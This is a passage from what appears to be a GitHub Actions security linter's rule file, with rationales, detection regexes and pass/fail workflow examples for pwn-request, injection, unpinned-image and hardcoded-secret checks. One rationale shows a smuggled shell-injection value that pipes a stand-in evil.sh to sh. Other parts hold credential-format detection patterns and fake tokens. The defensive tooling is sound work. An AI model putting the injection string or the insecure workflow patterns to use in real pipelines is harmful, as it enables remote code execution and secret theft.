        remediation "Reference the image by digest, keeping the tag for readers: `image: node:20.11.1@sha256:…` (Dependabot and Renovate update such pins)."

        for j in github.job("steps")
        # An image whose name is an expression cannot be judged; a literal name with a tag computed by
        # an expression (`node:${{ matrix.node }}`) is still a tag.
        let judged = filter(i in j.container_images, not (i.image matches "\\$\\{\\{") and trim(i.raw) != "")
        let moving = filter(i in judged, not exists(i.digest) and default(i.tag, "") in ["", "latest"])
        let tagged = filter(i in judged, not exists(i.digest) and default(i.tag, "") not in ["", "latest"])
        let moving_container = filter(i in moving, i.field == "container")
        let tagged_container = filter(i in tagged, i.field == "container")
        let moving_services = filter(i in moving, i.field != "container")
        let tagged_services = filter(i in tagged, i.field != "container")
        require count(moving_container) == 0
          else "job '${j.id}' runs in container image '${first(moving_container).raw}', which follows the moving 'latest' tag" at first(moving_container)
        require count(tagged_container) == 0
          else "job '${j.id}' runs in container image '${first(tagged_container).raw}' by tag, not by digest" at first(tagged_container)
        require count(moving_services) == 0
          else "job '${j.id}' starts service '${replace(first(moving_services).field, "services.", "")}' from image '${first(moving_services).raw}', which follows the moving 'latest' tag (${count(moving_services)} such service(s))" at first(moving_services)
        require count(tagged_services) == 0
          else "job '${j.id}' starts service '${replace(first(tagged_services).field, "services.", "")}' from image '${first(tagged_services).raw}' by tag, not by digest (${count(tagged_services)} such service(s))" at first(tagged_services)

        example pass """
          on: push
          jobs:
            test:
              runs-on: ubuntu-24.04
              container:
                image: node:20.11.1@sha256:8e1ae4a0d5e1fbc4d2f7a9b3c6e0d1f2a3b4c5d6e7f8091a2b3c4d5e6f708192
              services:
                db:
                  image: ${{ matrix.db }}
              strategy:
                matrix:
                  db: ["postgres:16@sha256:1f2e3d4c5b6a79880716253443526170f8e9d0c1b2a3f4e5d6c7b8a9f0e1d2c3"]
              steps:
                - run: npm test
        """
        example pass "a null container is no container" """
          on: push
          jobs:
            test:
              runs-on: ubuntu-24.04
              container: null
              services:
                db:
                  image: ~
              steps:
                - run: npm test
            lint:
              runs-on: ubuntu-24.04
              container: ~
              steps:
                - run: npm run lint
        """
        example fail "latest" """
          on: push
          jobs:
            test:
              runs-on: ubuntu-24.04
              container: ↓node
              services:
                cache:
                  image: ↓redis:latest
              steps:
                - run: npm test
        """ expect "job 'test' runs in container image 'node', which follows the moving 'latest' tag" expect "starts service 'cache' from image 'redis:latest', which follows the moving 'latest' tag (1 such service(s))"
        example fail "tag" """
          on: push
          jobs:
            test:
              runs-on: ubuntu-24.04
              container: ↓rockylinux/rockylinux:${{ matrix.version }}
              strategy:
                matrix:
                  version: ["9.5"]
              services:
                db:
                  image: ↓postgres:16.2
              steps:
                - run: npm test
        """ expect "job 'test' runs in container image 'rockylinux/rockylinux:${{ matrix.version }}' by tag, not by digest" expect "starts service 'db' from image 'postgres:16.2' by tag, not by digest"
      }

      """#),
    PolicySource(
      path: "rules/security/github/dangerous_workflow_triggers.plumb",
      text: #"""
      rule dangerous_workflow_triggers {
        title "pull_request_target and workflow_run workflows are gated"
        severity medium
        category security
        tags [github-actions, pwn-request]
        rationale """
          `pull_request_target` and `workflow_run` run the base repository's workflow with its secrets
          and a token that can write, for events any GitHub user can cause by opening a pull request from
          a fork. Every step is then one mistake (a checkout of the head, an expansion of the title, a
          cache or artifact written by the fork's run) away from handing those secrets to the attacker.
          Jobs gated on the pull request's origin (`head.repo.full_name == github.repository`, a
          maintainer-applied label, `author_association`, `workflow_run.event`) and workflows that only
          run `actions/labeler`-like actions are not reported.
        """
        remediation """
          Prefer `pull_request` (no secrets, read-only token for forks). If the privileged trigger is
          needed, add an `if:` to each job that checks the origin, e.g.
          `if: github.event.pull_request.head.repo.full_name == github.repository` or a label that only
          maintainers can apply, and keep untrusted code and data out of the job.
        """
        param gate: pattern = "(?i)(head\\.repo\\.(full_name|fork|owner)|head_repository\\.(full_name|fork|owner)|\\.labels|label\\.name|author_association|workflow_run\\.event\\b|pull_request\\.user\\.(login|id))"
        param safe_actions: list<string> = ["actions/labeler", "actions/first-interaction"]

        for w in github.workflow
        let risky = filter(t in w.triggers, t in ["pull_request_target", "workflow_run"])
        when count(risky) > 0
        let jobs = values(w.jobs)
        let ungated = filter(k in keys(w.jobs), not (to_string(default(w.jobs[k]["if"], "")) matches param.gate))
        let steps = flatten(map(jb in jobs, default(jb.steps, [])))
        let safe_only = all(jb in jobs, exists(jb.steps)) and count(steps) > 0
          and all(st in steps, any(a in param.safe_actions, starts_with(lower(to_string(default(st.uses, ""))), a + "@")))
        require count(ungated) == 0 or safe_only
          else "the workflow runs on ${join(risky, " and ")} with secrets and a write token for events from forks, and job '${join(ungated, "', '")}' does not check where the change comes from" at default(w.on[first(risky)], w.on)

        example pass "gated on the origin" """
          on: pull_request_target
          permissions:
            pull-requests: write
          jobs:
            comment:
              if: github.event.pull_request.head.repo.full_name == github.repository
              runs-on: ubuntu-24.04
              steps:
                - run: gh pr comment "$PR" --body "thanks"
        """
        example pass "labeler only" """
          on: pull_request_target
          jobs:
            label:
              runs-on: ubuntu-24.04
              steps:
                - uses: actions/labeler@8558fd74291d67161a8a78ce36a881fa63b766a9 # v5.0.0
        """
        example fail """
          on:
            push:
            pull_request_target:
              ↓types: [opened, synchronize]
          jobs:
            build:
              runs-on: ubuntu-24.04
              steps:
                - run: make
        """ expect "the workflow runs on pull_request_target with secrets and a write token for events from forks, and job 'build' does not check"
        example fail "workflow_run, string form" """
          on: ↓workflow_run
          jobs:
            report:
              if: github.event.workflow_run.conclusion == 'success'
              runs-on: ubuntu-24.04
              steps:
                - run: ./report.sh
        """ expect "runs on workflow_run"
      }

      """#),
    PolicySource(
      path: "rules/security/github/debug_tracing_enabled.plumb",
      text: #"""
      rule debug_tracing_enabled {
        title "Workflows do not switch on debug tracing"
        severity medium
        category security
        tags [github-actions, secrets, logging]
        rationale """
          `ACTIONS_STEP_DEBUG` and `ACTIONS_RUNNER_DEBUG` make the runner log every expression it
          evaluates, every environment variable and file it passes, and the runner's own diagnostics.
          Masking catches only secrets stored as secrets: derived values (a token computed from a secret,
          a decoded credential, a cloud session) go into the log, which anyone with read access to the
          repository (everyone, for a public one) can download for months. Set in a workflow file, the
          tracing is on for every run, not for the one run someone is debugging.
        """
        remediation """
          Remove the variable from `env:` (and from lines writing it to `$GITHUB_ENV`). To debug one run,
          use "Re-run with debug logging" in the GitHub UI, which applies to that run only.
        """
        param variables: list<string> = ["ACTIONS_STEP_DEBUG", "ACTIONS_RUNNER_DEBUG"]
        # A line that sets one of them to a true value and writes GITHUB_ENV.
        param writes: pattern = "(?i)\\bACTIONS_(?:STEP|RUNNER)_DEBUG=[\"']?(?:true|1|yes|on)\\b"

        for w in github.workflow
        let on = ["true", "1", "yes", "on"]
        let wf_env = default(w.env, {})
        let wf_keys = filter(k in keys(wf_env), upper(k) in param.variables and lower(trim(to_string(wf_env[k]))) in on)
        let jobs = filter(j in github.job[file == w.file], any(k in keys(default(j.env, {})),
          upper(k) in param.variables and lower(trim(to_string(j.env[k]))) in on))
        let job = first(jobs)
        let job_key = first(filter(k in keys(default(job.env, {})), upper(k) in param.variables and lower(trim(to_string(job.env[k]))) in on))
        let all_steps = github.step[file == w.file]
        let steps = filter(s in all_steps, any(k in keys(default(s.env, {})),
          upper(k) in param.variables and lower(trim(to_string(s.env[k]))) in on))
        let step = first(steps)
        let step_key = first(filter(k in keys(default(step.env, {})), upper(k) in param.variables and lower(trim(to_string(step.env[k]))) in on))
        let writers = filter(s in all_steps, any(l in split(to_string(default(s.run, "")), "\n"),
          l matches param.writes and l matches "(?i)github_env"))
        require count(wf_keys) == 0
          else "the workflow sets ${first(wf_keys)}: ${to_string(wf_env[first(wf_keys)])} for every job: every run logs evaluated expressions and environment values" at wf_env[first(wf_keys)]
          fix { for k in wf_keys { remove w.env[k] } }
        require count(jobs) == 0
          else "job '${job.id}' sets ${job_key}: ${to_string(job.env[job_key])}: every run logs evaluated expressions and environment values (${count(jobs)} job(s))" at job.env[job_key]
          fix {
            for jb in jobs {
              for k in filter(k in keys(jb.env), upper(k) in param.variables and lower(trim(to_string(jb.env[k]))) in on) { remove jb.env[k] }
            }
          }
        require count(steps) == 0
          else "step '${name(step)}' in job '${step.job}' sets ${step_key}: ${to_string(step.env[step_key])} (${count(steps)} step(s))" at step.env[step_key]
          fix {
            for st in steps {
              for k in filter(k in keys(st.env), upper(k) in param.variables and lower(trim(to_string(st.env[k]))) in on) { remove st.env[k] }
            }
          }
        require count(writers) == 0
          else "step '${name(first(writers))}' in job '${first(writers).job}' switches on debug tracing through GITHUB_ENV for the steps after it (${count(writers)} step(s))" at first(writers).run

        example pass """
          on: push
          env:
            ACTIONS_STEP_DEBUG: false
            DEBUG: "1"
          jobs:
            build:
              runs-on: ubuntu-24.04
              env:
                ACTIONS_RUNNER_DEBUG: "0"
              steps:
                - run: echo "ACTIONS_STEP_DEBUG=false" >> "$GITHUB_ENV"
        """
        example fail "workflow env" """
          on: push
          env:
            ACTIONS_STEP_DEBUG: ↓true
          jobs:
            build:
              runs-on: ubuntu-24.04
              steps:
                - run: make
        """ expect "the workflow sets ACTIONS_STEP_DEBUG: true for every job"
        example fail "job and step env, any case, GITHUB_ENV" """
          on: pull_request
          jobs:
            build:
              runs-on: ubuntu-24.04
              env:
                actions_runner_debug: ↓"TRUE"
              steps:
                - env:
                    ACTIONS_STEP_DEBUG: ↓'1'
                  run: make
            test:
              runs-on: ubuntu-24.04
              steps:
                - run: ↓echo "ACTIONS_STEP_DEBUG=true" >> $GITHUB_ENV
        """ expect "job 'build' sets actions_runner_debug: TRUE" expect "step 'make' in job 'build' sets ACTIONS_STEP_DEBUG: 1 (1 step(s))" expect "switches on debug tracing through GITHUB_ENV"
      }

      """#),
    PolicySource(
      path: "rules/security/github/deployment_gated_by_branch_name.plumb",
      text: #"""
      rule deployment_gated_by_branch_name {
        title "Deployments are not restricted by a branch name alone"
        severity high
        category security
        tags [github-actions, deployment, access-control]
        rationale """
          A job that deploys (it holds cloud credentials through OIDC, writes packages, deployments or
          pages, or uses secrets) and is restricted only by an `if:` on a branch name runs for every
          branch that matches. A prefix or pattern (`startsWith(github.ref, 'refs/heads/release')`,
          `contains(github.ref_name, 'prod')`) matches any branch anyone with push access creates,
          around branch protection. A name the pull request author chooses (`github.head_ref`,
          `github.event.pull_request.head.ref`, `github.event.workflow_run.head_branch`) matches a fork's
          branch called `main`. A protected environment (`environment:` with required reviewers or
          deployment branch rules) or `github.ref_protected` ties the deployment to what the repository
          protects; a check of the head repository rules out forks.
        """
        remediation """
          Deploy through a GitHub environment (`environment: production`) whose protection rules allow
          only protected branches and tags, or add `github.ref_protected` to the condition; for
          names taken from the event, also require
          `github.event.workflow_run.head_repository.full_name == github.repository`.
        """
        # A job deploys when its id or name says so, or it gets these write scopes.
        param deploy_name: pattern = "(?i)deploy|release|publish|rollout|prod"
        param deploy_scopes: list<string> = ["id-token", "deployments", "packages", "pages"]
        # Branch names an outsider chooses.
        param outsider_ref: pattern = "(?i)github\\s*\\.\\s*(head_ref|event\\s*\\.\\s*(pull_request\\s*\\.\\s*head\\s*\\.\\s*ref|workflow_run\\s*\\.\\s*head_branch|check_suite\\s*\\.\\s*head_branch|check_run\\s*\\.\\s*check_suite\\s*\\.\\s*head_branch))"
        # A pattern over the pushed ref.
        param ref_pattern: pattern = "(?i)(startswith|endswith|contains)\\s*\\(\\s*github\\s*\\.\\s*(ref|ref_name)\\b|github\\s*\\.\\s*(ref|ref_name)\\s*!=|'[^']*'\\s*!=\\s*github\\s*\\.\\s*(ref|ref_name)\\b"
        # Conditions that bind the job to what the repository protects, or rule out forks.
        param protected: pattern = "(?i)ref_protected|head_repository\\s*\\.\\s*(full_name|fork|id|owner)|head\\s*\\.\\s*repo\\s*\\.\\s*(full_name|fork|id|owner)|ref_type\\s*==\\s*'tag'|startswith\\s*\\(\\s*github\\s*\\.\\s*ref\\s*,\\s*'refs/tags"

        for j in github.job
        when not exists(j.environment) or is_null(j.environment)
        let conditions = filter(e in j.expressions, e.field == "if")
        let gates = filter(e in conditions, e.text matches param.outsider_ref or e.text matches param.ref_pattern)
        when count(gates) > 0
        let secret_use = filter(e in j.expressions, any(c in e.contexts, starts_with(c, "secrets.") and c != "secrets.github_token"))
        let step_secrets = filter(s in github.step[file == j.file and job == j.id], any(e in s.expressions,
          any(c in e.contexts, starts_with(c, "secrets.") and c != "secrets.github_token")))
        let scopes = filter(x in default(j.write_scopes, []), x in param.deploy_scopes)
        let deploys = j.id matches param.deploy_name or to_string(default(j.name, "")) matches param.deploy_name
          or count(scopes) > 0 or count(secret_use) > 0 or count(step_secrets) > 0
        when deploys
        require any(e in conditions, e.text matches param.protected)
          else "job '${j.id}' deploys (${first(flatten([map(x in scopes, x + ": write"), map(e in secret_use, e.text), map(s in step_secrets, "secrets in step '" + name(s) + "'"), ["its name"]]))}) and is restricted only by a branch name ('${first(gates).text}'), which ${default({"true": "the pull request's author chooses"}[to_string(first(gates).text matches param.outsider_ref)], "any new branch can match")}; use a protected environment or github.ref_protected" at first(gates)

        example pass """
          on: push
          jobs:
            deploy:
              if: github.ref == 'refs/heads/main'
              environment: production
              runs-on: ubuntu-24.04
              permissions:
                id-token: write
              steps:
                - run: ./deploy.sh
            deploy-tag:
              if: github.event_name == 'push' && startsWith(github.ref, 'refs/tags')
              runs-on: ubuntu-24.04
              permissions:
                id-token: write
              steps:
                - run: ./deploy.sh
            deploy-release:
              if: startsWith(github.ref, 'refs/heads/release/') && github.ref_protected
              runs-on: ubuntu-24.04
              steps:
                - run: ./deploy.sh
                  env:
                    TOKEN: ${{ secrets.DEPLOY_TOKEN }}
            publish:
              if: github.ref == 'refs/heads/main'
              runs-on: ubuntu-24.04
              permissions:
                packages: write
              steps:
                - run: ./publish.sh
            test:
              if: startsWith(github.ref, 'refs/heads/feature/')
              runs-on: ubuntu-24.04
              steps:
                - run: make test
        """
        example fail "a prefix of the pushed ref" """
          on: push
          jobs:
            deploy:
              if: ↓${{ startsWith(github.ref, 'refs/heads/release') }}
              runs-on: ubuntu-24.04
              permissions:
                id-token: write
                contents: read
              steps:
                - run: ./deploy.sh
        """ expect "job 'deploy' deploys (id-token: write) and is restricted only by a branch name ('startsWith(github.ref, 'refs/heads/release')'), which any new branch can match"
        example fail "a branch name the fork chooses, any spelling" """
          on:
            workflow_run:
              workflows: [ci]
              types: [completed]
          jobs:
            ship:
              if: ↓GitHub.Event.Workflow_Run.Head_Branch == 'main' && github.event.workflow_run.conclusion == 'success'
              runs-on: ubuntu-24.04
              steps:
                - run: ./upload.sh
                  env:
                    KEY: ${{ secrets.UPLOAD_KEY }}
            preview:
              if: ↓github.head_ref == 'main'
              runs-on: ubuntu-24.04
              environment:
              permissions:
                pages: write
              steps:
                - run: ./preview.sh
        """ expect "job 'ship' deploys (secrets in step './upload.sh') and is restricted only by a branch name" expect "which the pull request's author chooses"
      }

      """#),
    PolicySource(
      path: "rules/security/github/docker_uses_pinned_by_digest.plumb",
      text: #"""
      rule docker_uses_pinned_by_digest {
        title "docker:// steps are pinned by digest"
        severity medium
        category security
        tags [github-actions, supply-chain, containers]
        rationale """
          A `uses: docker://image:tag` step runs that image with the job's workspace, token and
          secrets. An untagged or `latest` image changes with every push to the registry, and any tag can
          be re-pushed by whoever controls the image (or stole their credentials). A `@sha256:` digest
          names exactly one image.
        """
        remediation "Pin the image by digest: `uses: docker://alpine:3.20@sha256:…`."

        for s in github.step("uses")
        when s.uses_ref.kind == "docker" and not (s.uses_ref.raw matches "\\$\\{\\{")
        require exists(s.uses_ref.digest) or default(s.uses_ref.tag, "") not in ["", "latest"]
          else "step runs image '${s.uses_ref.raw}', which follows the moving 'latest' tag" at s.uses
        require exists(s.uses_ref.digest) or default(s.uses_ref.tag, "") in ["", "latest"]
          else "step runs image '${s.uses_ref.raw}' by tag '${s.uses_ref.tag}', not by digest" at s.uses

        example pass """
          on: push
          jobs:
            lint:
              runs-on: ubuntu-24.04
              steps:
                - uses: docker://ghcr.io/acme/linter:2.1.0@sha256:2c9e8d7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d
        """
        example fail "unpinned" """
          on: push
          jobs:
            lint:
              runs-on: ubuntu-24.04
              steps:
                - uses: ↓docker://ubuntu
                - uses: ↓docker://ghcr.io/acme/linter:2.1.0
        """ expect "step runs image 'docker://ubuntu', which follows the moving 'latest' tag" expect "step runs image 'docker://ghcr.io/acme/linter:2.1.0' by tag '2.1.0', not by digest"
      }

      """#),
    PolicySource(
      path: "rules/security/github/github_env_untrusted_write.plumb",
      text: #"""
      rule github_env_untrusted_write {
        title "Privileged workflows do not write computed values to GITHUB_ENV or GITHUB_PATH"
        severity high
        category security
        tags [github-actions, injection, pwn-request]
        rationale """
          Lines appended to `$GITHUB_ENV` become environment variables of every later step, and lines
          appended to `$GITHUB_PATH` decide which programs they run. In a `pull_request_target` or
          `workflow_run` workflow the written value often comes from the fork (a title, a branch name, an
          artifact): a newline in it sets `LD_PRELOAD`, `NODE_OPTIONS` or `BASH_ENV`, or prepends a
          directory the fork controls, and the next step runs the attacker's code with the workflow's
          secrets. Writing a literal (`echo "CI=true" >> "$GITHUB_ENV"`) is not reported.
        """
        remediation """
          Do not write values derived from the event, artifacts or the fork's files to these files.
          Pass data between steps as step outputs (`$GITHUB_OUTPUT`, read through `env:`), validate it
          against a strict pattern first, or move the work to an unprivileged `pull_request` workflow.
        """
        param triggers: list<string> = ["pull_request_target", "workflow_run"]
        # Events anyone can cause on a public repository (a fork's pull request, an issue, a comment, a
        # review, a discussion, a star), and runs that follow them.
        param outsider_triggers: list<string> = [
          "pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment", "issues",
          "issue_comment", "discussion", "discussion_comment", "workflow_run", "fork", "watch"
        ]
        # Sources an outsider writes (as in template_injection).
        param untrusted: pattern = "(?i)^github\\.(head_ref$|event\\.((issue|pull_request|discussion)\\.(title|body)|(comment|review|review_comment)\\.body|pull_request\\.head\\.(ref|label|repo\\.default_branch)|pages(\\[\\*\\]|\\.\\*|\\[[0-9]+\\])\\.page_name|(commits(\\[\\*\\]|\\.\\*|\\[[0-9]+\\])|head_commit|workflow_run\\.head_commit)\\.(message|author\\.(email|name)|committer\\.(email|name))|workflow_run\\.(head_branch|display_title|pull_requests(\\[\\*\\]|\\.\\*|\\[[0-9]+\\])\\.head\\.ref))$)|^artifact$|^github(\\.event(\\.(issue|pull_request|discussion|comment|review|review_comment|head_commit|commits|pages|workflow_run|\\*(\\.(title|body))?))?)?$"
        param boolean_valued: pattern = "(?i)^\\s*+(?:!\\s*+)?(startswith|endswith|contains)\\([^&|]*\\)\\s*$|^(?=[^&|]*$)[^'&|]*?(==|!=|<|>)"

        for s in github.step("run")
        let wf = first(s -> inJob -> inWorkflow)
        let risky = filter(t in default(wf.triggers, []), t in param.triggers)
        let outsider = filter(t in default(wf.triggers, []), t in param.outsider_triggers)
        when count(outsider) > 0
        # In pull_request_target and workflow_run workflows: lines that write to the file and are not an
        # `echo`/`printf` of literal text only.
        let writes = filter(l in split(to_string(s.run), "\n"), count(risky) > 0
          and l matches "(?im)^(?>[^\\n]*?(?:>|\\btee\\b|out-file|add-content|set-content))[^\\n]*(?:\\$\\{?|\\$env:|%)github_(?:env|path)\\b"
          and not (l matches "^\\s*(echo|printf)\\b[^$`]*>" and not (l matches "(?:^|>)(?>[^>]*?%[A-Za-z_][A-Za-z0-9_]*%)[^>]*>")))
        let env_writes = filter(l in writes, l matches "(?i)github_env\\b")
        let path_writes = filter(l in writes, l matches "(?i)github_path\\b")
        # In any workflow an outsider can trigger: writes of a value the taint pass traced to a source
        # an outsider controls (`s.flows`, sinks `github_env` and `github_path`).
        let tainted = filter(f in default(s.flows, []), count(risky) == 0
          and (f.field == "github_env" or f.field == "github_path") and f.context matches param.untrusted
          and not any(t in f.texts, t matches param.boolean_valued))
        require count(env_writes) == 0
          else "job '${s.job}' writes a computed value to GITHUB_ENV in a workflow triggered by ${join(risky, ", ")}: '${trim(first(env_writes))}'" at s.run
        require count(path_writes) == 0
          else "job '${s.job}' writes a computed value to GITHUB_PATH in a workflow triggered by ${join(risky, ", ")}: '${trim(first(path_writes))}'" at s.run
        require count(tainted) == 0
          else "job '${s.job}' writes ${first(tainted).context}, which an outsider controls, to ${upper(first(tainted).field)} in a workflow triggered by ${join(outsider, ", ")}: ${first(tainted).path}" at first(tainted)

        example pass """
          on: pull_request_target
          jobs:
            setup:
              runs-on: ubuntu-24.04
              steps:
                - run: |
                    echo "CI_MODE=strict" >> "$GITHUB_ENV"
                    printf 'A=1\nB=2\n' >> $GITHUB_ENV
                    echo "title=$TITLE" >> "$GITHUB_OUTPUT"
        """
        example pass "not a privileged trigger" """
          on: push
          jobs:
            setup:
              runs-on: ubuntu-24.04
              steps:
                - run: echo "VERSION=$(cat VERSION)" >> "$GITHUB_ENV"
        """
        example pass "a tainted value written by a workflow outsiders cannot trigger" """
          on: [push, workflow_dispatch]
          jobs:
            setup:
              runs-on: ubuntu-24.04
              steps:
                - env:
                    MSG: ${{ github.event.head_commit.message }}
                  run: echo "MSG=$MSG" >> "$GITHUB_ENV"
        """
        example fail "any workflow an outsider can trigger, every spelling of the write" """
          on:
            issues:
              types: [opened]
            pull_request:
          jobs:
            label:
              runs-on: ubuntu-24.04
              env:
                TITLE: ${{ github.event.issue.title }}
              steps:
                - run: |
                    ↓echo "TITLE=$TITLE" >> "$GITHUB_ENV"
                - run: ↓echo "${{ github.head_ref }}" | tee -a ${GITHUB_PATH}
                - shell: pwsh
                  run: |
                    ↓"T=$env:TITLE" | Out-File -FilePath $env:GITHUB_ENV -Append
                - run: |
                    {
                      echo "B<<EOF"
                      ↓echo "$TITLE"
                      echo "EOF"
                    } >> "$GITHUB_ENV"
        """ expect "job 'label' writes github.event.issue.title, which an outsider controls, to GITHUB_ENV in a workflow triggered by issues, pull_request: github.event.issue.title → env.TITLE (job label) → GITHUB_ENV (job label, step 1)" expect "writes github.head_ref, which an outsider controls, to GITHUB_PATH"
        example fail """
          on: workflow_run
          jobs:
            report:
              runs-on: ubuntu-24.04
              steps:
                - env:
                    TITLE: ${{ github.event.workflow_run.display_title }}
                  run: ↓|
                    message=$(echo "$TITLE" | head -n1)
                    echo "MESSAGE=$message" >> $GITHUB_ENV
                - run: ↓cat artifact/path.txt | tee -a "${GITHUB_PATH}"
        """ expect "job 'report' writes a computed value to GITHUB_ENV in a workflow triggered by workflow_run: 'echo \"MESSAGE=$message\" >> $GITHUB_ENV'" expect "to GITHUB_PATH"
      }

      """#),
    PolicySource(
      path: "rules/security/github/hardcoded_secret_in_workflow.plumb",
      text: #"""
      rule hardcoded_secret_in_workflow {
        title "Workflows do not contain literal secrets"
        severity high
        category security
        tags [github-actions, secrets, credentials]
        rationale """
          A token, password or key written in a workflow's `env`, an action's `with` inputs or a `run`
          script is readable by everyone who can read the repository, stays in its history and in every
          fork, and is not masked in logs. Reported: values with the prefix of a known credential
          format (GitHub `ghp_`/`github_pat_`, GitLab `glpat-`, AWS `AKIA`, Slack `xox?-`, Stripe
          `sk_live_`, npm, PyPI, PEM private keys) anywhere, and literal values of at least 8 characters
          mixing letters and digits in keys named like a secret (`*PASSWORD*`, `*TOKEN*`, `*SECRET*`,
          `*API_KEY*`, …). Expressions (`${{ secrets.X }}`) are not literals.
        """
        remediation "Move the value to an encrypted secret (or an OIDC-based credential) and reference it with `${{ secrets.NAME }}`; then revoke or rotate the exposed value, which stays in the repository's history."
        param secret_names: pattern = "(?i)(passw(or)?d|passphrase|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|signing[_-]?key|credentials?)"
        param not_secret_names: pattern = "(?i)[_-](file|path|name|url|uri|type|format|id|user|username|env|header|scope|endpoint|dir|length|ttl)s?$"
        param known_prefixes: pattern = "(gh[pousr]_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9_]{60,}|glpat-[A-Za-z0-9_-]{20,}|\\b(AKIA|ASIA)[0-9A-Z]{16}\\b|xox[abprs]-[0-9A-Za-z-]{10,}|sk_live_[0-9A-Za-z]{24,}|\\bnpm_[A-Za-z0-9]{36}\\b|pypi-AgEIcHlwaS5vcmc[A-Za-z0-9_-]{50,}|-----BEGIN ([A-Z]+ )?PRIVATE KEY-----)"

        for w in github.workflow
        # A literal that could be a credential: no expression, no white space, letters and digits,
        # not a path, URL or variable reference, not a placeholder.
        let literal = "^(?![\\s\\S]*\\$\\{\\{)(?=.*[0-9])(?=.*[A-Za-z])(?![$/~.]|https?:)(?!(?i)(changeme|example|dummy|placeholder|test|fake|sample|xxx|redacted))\\S{8,}$"
        let wf_hits = filter(k in keys(default(w.env, {})),
          to_string(w.env[k]) matches param.known_prefixes
          or (k matches param.secret_names and not (k matches param.not_secret_names) and to_string(w.env[k]) matches literal))
        let job_hits = flatten(map(jk in keys(w.jobs), map(k in filter(k in keys(default(w.jobs[jk].env, {})),
            to_string(w.jobs[jk].env[k]) matches param.known_prefixes
            or (k matches param.secret_names and not (k matches param.not_secret_names) and to_string(w.jobs[jk].env[k]) matches literal)),
          {job: jk, key: k})))
        let env_hits = flatten(map(jk in keys(w.jobs), flatten(map(i, st in default(w.jobs[jk].steps, []),
          map(k in filter(k in keys(default(st.env, {})),
              to_string(st.env[k]) matches param.known_prefixes
              or (k matches param.secret_names and not (k matches param.not_secret_names) and to_string(st.env[k]) matches literal)),
            {job: jk, index: i, key: k})))))
        let with_hits = flatten(map(jk in keys(w.jobs), flatten(map(i, st in default(w.jobs[jk].steps, []),
          map(k in filter(k in keys(default(st.with, {})),
              to_string(st.with[k]) matches param.known_prefixes
              or (k matches param.secret_names and not (k matches param.not_secret_names) and to_string(st.with[k]) matches literal)),
            {job: jk, index: i, key: k})))))
        let run_hits = flatten(map(jk in keys(w.jobs), filter(h in map(i, st in default(w.jobs[jk].steps, []),
            {job: jk, index: i, hit: to_string(default(st.run, "")) matches param.known_prefixes}), h.hit)))
        require count(wf_hits) == 0
          else "workflow env '${first(wf_hits)}' holds a literal secret" at w.env[first(wf_hits)]
        require count(job_hits) == 0
          else "env '${first(job_hits).key}' of job '${first(job_hits).job}' holds a literal secret" at w.jobs[first(job_hits).job].env[first(job_hits).key]
        require count(env_hits) == 0
          else "env '${first(env_hits).key}' of step ${first(env_hits).index + 1} in job '${first(env_hits).job}' holds a literal secret" at w.jobs[first(env_hits).job].steps[first(env_hits).index].env[first(env_hits).key]
        require count(with_hits) == 0
          else "input '${first(with_hits).key}' of step ${first(with_hits).index + 1} in job '${first(with_hits).job}' is a literal secret" at w.jobs[first(with_hits).job].steps[first(with_hits).index].with[first(with_hits).key]
        require count(run_hits) == 0
          else "the run script of step ${first(run_hits).index + 1} in job '${first(run_hits).job}' contains a credential with a known token format" at w.jobs[first(run_hits).job].steps[first(run_hits).index].run

        example pass """
          on: push
          env:
            NODE_ENV: production
            TOKEN_URL: https://auth.example.com/token
          jobs:
            test:
              runs-on: ubuntu-24.04
              env:
                DB_PASSWORD: postgres
                GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}
              steps:
                - uses: actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af # v4.1.0
                  with:
                    token: ${{ secrets.NODE_TOKEN }}
                - run: npm test
                  env:
                    API_KEY_FILE: /run/secrets/api_key
                    AWS_ACCESS_KEY_ID: ${{ vars.AWS_KEY_ID }}
        """
        example fail """
          on: push
          env:
            AWS_ACCESS_KEY_ID: ↓AKIAIOSFODNN7EXAMPLE
          jobs:
            deploy:
              runs-on: ubuntu-24.04
              env:
                SERVICE_PASSWORD: ↓Tr0ub4dor-and-3
              steps:
                - run: ./deploy.sh
                  env:
                    SLACK_TOKEN: ↓xoxb-123456789012-abcdefghijkl
                - uses: acme/publish@3f1d8c2a4b5e6f708192a3b4c5d6e7f809a1b2c3
                  with:
                    api-key: ↓9f8e7d6c5b4a39281706f5e4d3c2b1a0
                - run: ↓|
                    curl -H "Authorization: token ghp_0123456789abcdefghijABCDEFGHIJ012345" https://api.github.com/user
        """ expect "workflow env 'AWS_ACCESS_KEY_ID' holds a literal secret" expect "env 'SERVICE_PASSWORD' of job 'deploy'" expect "env 'SLACK_TOKEN' of step 1 in job 'deploy'" expect "input 'api-key' of step 2 in job 'deploy' is a literal secret" expect "the run script of step 3 in job 'deploy' contains a credential"
      }

      """#),
    PolicySource(
      path: "rules/security/github/input_expanded_into_script.plumb",
      text: #"""
      rule input_expanded_into_script {
        title "Free-text inputs are not expanded into run scripts"
        severity medium
        category security
        tags [github-actions, injection, "unsafe-fix"]
        rationale """
          `${{ inputs.x }}` is pasted into the script text before the shell runs it. A string input of
          a `workflow_dispatch` (anyone with write access, or a token that can dispatch), of a reusable
          workflow (whatever the caller passes, often a pull request title or branch name), or of a
          composite action becomes shell code: `x"; curl evil.sh | sh; "` runs. Inputs typed `boolean`,
          `number`, `choice` or `environment` cannot carry code and are not reported.
        """
        remediation """
          Pass the input through an environment variable (`env: VERSION: ${{ inputs.version }}`) and use
          `"$VERSION"` in the script; or give the input a `boolean`, `number` or `choice` type.
        """
        param code_inputs: list<string> = [
          "actions/github-script:script", "amadevus/pwsh-script:script",
          "jannekem/run-python-script-action:script", "cardinalby/js-eval-action:expression",
          "azure/cli:inlinescript", "azure/powershell:inlinescript", "mikefarah/yq:cmd",
          "addnab/docker-run-action:run", "appleboy/ssh-action:script"
        ]

        param boolean_valued: pattern = "(?i)^\\s*+(?:!\\s*+)?(startswith|endswith|contains)\\([^&|]*\\)\\s*$|^(?=[^&|]*$)[^'&|]*?(==|!=|<|>)"

        for s in github.step
        let wf = first(s -> inJob -> inWorkflow)
        let action = lower(default(s.uses_ref.owner, "") + "/" + default(s.uses_ref.repo, ""))
